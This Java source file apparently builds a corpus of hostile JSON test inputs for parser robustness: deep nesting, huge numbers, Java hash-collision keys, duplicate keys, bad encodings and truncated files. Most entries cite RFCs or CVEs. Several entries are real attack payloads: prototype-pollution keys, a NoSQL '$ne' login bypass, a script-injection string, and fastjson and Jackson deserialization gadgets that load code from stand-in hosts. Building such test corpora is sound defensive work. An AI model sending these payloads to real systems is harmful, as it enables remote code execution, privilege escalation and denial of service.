package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.AMBIGUITY;
import static org.junitsandbox.corpus.Attack.BOMB;
import static org.junitsandbox.corpus.Attack.COMPLEXITY;
import static org.junitsandbox.corpus.Attack.CONCATENATED;
import static org.junitsandbox.corpus.Attack.EMPTY;
import static org.junitsandbox.corpus.Attack.ENCODING;
import static org.junitsandbox.corpus.Attack.HUGE_PROMISE;
import static org.junitsandbox.corpus.Attack.INJECTION;
import static org.junitsandbox.corpus.Attack.LONG_NAME;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;
import static org.junitsandbox.corpus.Attack.NESTING;
import static org.junitsandbox.corpus.Attack.TRUNCATED;

import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** JSON texts: depth, numbers, keys and strings that programs read differently. */
final class JsonFiles {

    private static final String TWIN = "{\"name\": \"harmless\", \"count\": 3, \"items\": [1, 2.5, true, null]}\n";
    private static final Family JSON = Family.of(Format.JSON, TWIN);
    private static final int MANY = 10_000;

    private JsonFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(loads(), numbers(), keys(), strings(), errors(), ends())
                .flatMap(all -> all);
    }

    private static String object(String value) {
        return "{\"name\": " + value + "}\n";
    }

    private static HostileFile.Builder load(Attack attack, String variant, String description, String text) {
        return JSON.begin(attack, variant, description, "RFC 8259 section 9")
                .expandsTo(text.length(), MANY, 1)
                .content(Content.of(text));
    }

    private static Stream<HostileFile> loads() {
        return Stream.of(
                load(
                                NESTING,
                                "arrays",
                                "10,000 arrays within each other.",
                                "[".repeat(MANY) + "]".repeat(MANY))
                        .expandsTo(0, MANY, MANY)
                        .build(),
                load(
                                NESTING,
                                "objects",
                                "10,000 objects within each other.",
                                "{\"a\":".repeat(MANY) + "0" + "}".repeat(MANY))
                        .reference("CVE-2020-36518, RFC 8259 section 9")
                        .expandsTo(0, MANY, MANY)
                        .build(),
                load(NESTING, "open-arrays", "10,000 arrays begin, and the file ends.", "[".repeat(MANY))
                        .expandsTo(0, MANY, MANY)
                        .build(),
                load(MANY_ENTRIES, "values", "An array of 10,000 values.", "[0" + ",0".repeat(MANY - 1) + "]\n")
                        .build(),
                load(MANY_ENTRIES, "keys", "An object with 10,000 keys.", keysOf(IntStream.range(0, MANY)
                                .mapToObj(number -> "k" + number)))
                        .build(),
                load(BOMB, "string", "A string of 300 kB.", object("\"" + "x".repeat(300_000) + "\""))
                        .expandsTo(300_000, 1, 1)
                        .build(),
                load(LONG_NAME, "key", "A key of 100,000 characters.", "{\"" + "k".repeat(100_000) + "\": 0}\n")
                        .expandsTo(100_000, 1, 1)
                        .build(),
                load(
                                COMPLEXITY,
                                "java-hashes",
                                "4,096 keys, to which Java gives the same hash code.",
                                keysOf(IntStream.range(0, 1 << 12).mapToObj(JsonFiles::colliding)))
                        .reference("CVE-2011-4858, CWE-407")
                        .expandsTo(0, 1 << 12, 1)
                        .build());
    }

    private static String keysOf(Stream<String> keys) {
        return keys.map(key -> "\"" + key + "\":0").collect(Collectors.joining(",", "{", "}\n"));
    }

    /** "Aa" and "BB" have the same hash code, and so have all texts that are made of them in equal number. */
    private static String colliding(int number) {
        return IntStream.range(0, 12)
                .mapToObj(bit -> (number >> bit & 1) == 0 ? "Aa" : "BB")
                .collect(Collectors.joining());
    }

    private static HostileFile number(Attack attack, String variant, String description, String value) {
        return JSON.file(attack, variant, description, "RFC 8259 section 6", object(value));
    }

    private static Stream<HostileFile> numbers() {
        return Stream.of(
                JSON.file(
                        COMPLEXITY,
                        "digits",
                        "A number of 400,000 digits.",
                        "CVE-2020-10735, RFC 8259 section 6",
                        object("7".repeat(400_000))),
                number(
                        HUGE_PROMISE,
                        "exponent",
                        "A number of a billion digits: 1e1000000000.",
                        "1e1000000000"),
                number(HUGE_PROMISE, "overflow", "A number that is infinite as a double: 1e400.", "1e400"),
                number(
                        AMBIGUITY,
                        "integer",
                        "An integer above 2 to the power of 53, which is another one as a double.",
                        "9007199254740993"),
                number(
                        AMBIGUITY,
                        "long",
                        "An integer above 2 to the power of 64.",
                        "18446744073709551617"));
    }

    private static HostileFile key(Attack attack, String variant, String description, String reference, String text) {
        return JSON.file(attack, variant, description, reference, text + "\n");
    }

    private static Stream<HostileFile> keys() {
        String unique = "RFC 8259 section 4";
        String types = "CWE-502";
        return Stream.of(
                key(
                        AMBIGUITY,
                        "duplicate-keys",
                        "A key is there twice, with two values.",
                        "CVE-2017-12635, " + unique,
                        "{\"role\": \"guest\", \"role\": \"admin\"}"),
                key(
                        AMBIGUITY,
                        "escaped-key",
                        "A key is there twice, once with an escape.",
                        unique,
                        "{\"role\": \"guest\", \"r\\u006fle\": \"admin\"}"),
                key(
                        AMBIGUITY,
                        "surrogate-key",
                        "Two keys differ by half of a pair only, which some programs replace.",
                        "RFC 8259 section 8.2",
                        "{\"role\\ud800\": \"guest\", \"role\\udfff\": \"admin\"}"),
                key(
                        INJECTION,
                        "prototype",
                        "The key __proto__, by which JavaScript changes all objects.",
                        "CWE-1321, CVE-2019-10744",
                        "{\"__proto__\": {\"admin\": true}}"),
                key(
                        INJECTION,
                        "constructor",
                        "The keys constructor and prototype, by which JavaScript changes all objects.",
                        "CWE-1321, CVE-2019-10744",
                        "{\"constructor\": {\"prototype\": {\"admin\": true}}}"),
                key(
                        INJECTION,
                        "operator",
                        "A value is an operator of a data base, where a password is expected.",
                        "CWE-943",
                        "{\"name\": \"admin\", \"password\": {\"$ne\": \"\"}}"),
                key(
                        INJECTION,
                        "markup",
                        "A string ends the script of a page that holds it.",
                        "CWE-79",
                        object("\"</script><script>alert(1)</script>\"")),
                key(
                        ACTIVE_CONTENT,
                        "type-name",
                        "An object names the class that it wants to be, in the way of fastjson.",
                        types + ", CVE-2017-18349",
                        "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\","
                                + " \"dataSourceName\": \"ldap://example.invalid/x\"}"),
                key(
                        ACTIVE_CONTENT,
                        "class-name",
                        "An object names the class that it wants to be, in the way of Jackson.",
                        types + ", CVE-2017-7525",
                        "{\"@class\": \"org.springframework.context.support.FileSystemXmlApplicationContext\","
                                + " \"location\": \"http://example.invalid/x.xml\"}"));
    }

    private static Stream<HostileFile> strings() {
        String section = "RFC 8259 section 8.2";
        String utf8 = "RFC 8259 section 8.1";
        return Stream.of(
                JSON.file(ENCODING, "high-surrogate", "Only the first half of a pair.", section, object("\"\\ud83d\"")),
                JSON.file(ENCODING, "low-surrogate", "Only the second half of a pair.", section, object("\"\\ude00\"")),
                JSON.file(
                        ENCODING,
                        "reversed-surrogates",
                        "The halves of a pair, the second one first.",
                        section,
                        object("\"\\ude00\\ud83d\"")),
                JSON.file(ENCODING, "null", "The character 0 within a string.", section, object("\"a\\u0000b\"")),
                JSON.file(
                        ENCODING,
                        "not-utf-8",
                        "A string that is not valid UTF-8.",
                        utf8,
                        Content.of(Bytes.latin1(object("\"caf\u00e9\"")))),
                JSON.file(
                        ENCODING,
                        "utf-16",
                        "The text is in UTF-16.",
                        utf8,
                        Content.of(('\ufeff' + TWIN).getBytes(StandardCharsets.UTF_16LE))),
                JSON.file(ENCODING, "mark", "The text begins with a byte order mark.", utf8, '\ufeff' + TWIN));
    }

    private static HostileFile malformed(String variant, String description, int section, String value) {
        return JSON.file(MALFORMED, variant, description, "RFC 8259 section " + section, object(value));
    }

    private static Stream<HostileFile> errors() {
        return Stream.of(
                malformed("not-a-number", "NaN, which is no number of JSON.", 6, "NaN"),
                malformed("infinity", "Infinity, which is no number of JSON.", 6, "-Infinity"),
                malformed("leading-zero", "A number with a leading zero.", 6, "010"),
                malformed("hexadecimal", "A hexadecimal number.", 6, "0x10"),
                malformed("trailing-comma", "A comma before the end of an array.", 5, "[1,]"),
                malformed("single-quotes", "A string in single quotes.", 7, "'a'"),
                malformed("comment", "A comment, which JSON does not have.", 2, "0 /* a */"),
                malformed("control-character", "A line break within a string.", 7, "\"a\nb\""),
                malformed("escape", "An unknown escape.", 7, "\"\\x41\""));
    }

    private static Stream<HostileFile> ends() {
        String section = "RFC 8259 section 2";
        return Stream.of(
                JSON.file(EMPTY, "no-bytes", "The file has no bytes.", section, ""),
                JSON.file(EMPTY, "spaces", "There is nothing but white space.", section, " \n\t\n"),
                JSON.file(CONCATENATED, "two-values", "There are two values.", section, TWIN + TWIN),
                JSON.file(CONCATENATED, "text", "A text follows the value.", section, TWIN + "and more\n"),
                cut("in-key", "The file ends within a key.", 4),
                cut("in-string", "The file ends within a string.", 14),
                cut("in-array", "The file ends within an array.", TWIN.indexOf(", 2.5")),
                cut("before-end", "The file ends before the last bracket.", TWIN.indexOf('}')));
    }

    private static HostileFile cut(String variant, String description, int length) {
        return JSON.file(TRUNCATED, variant, description, "RFC 8259 section 2", TWIN.substring(0, length));
    }
}
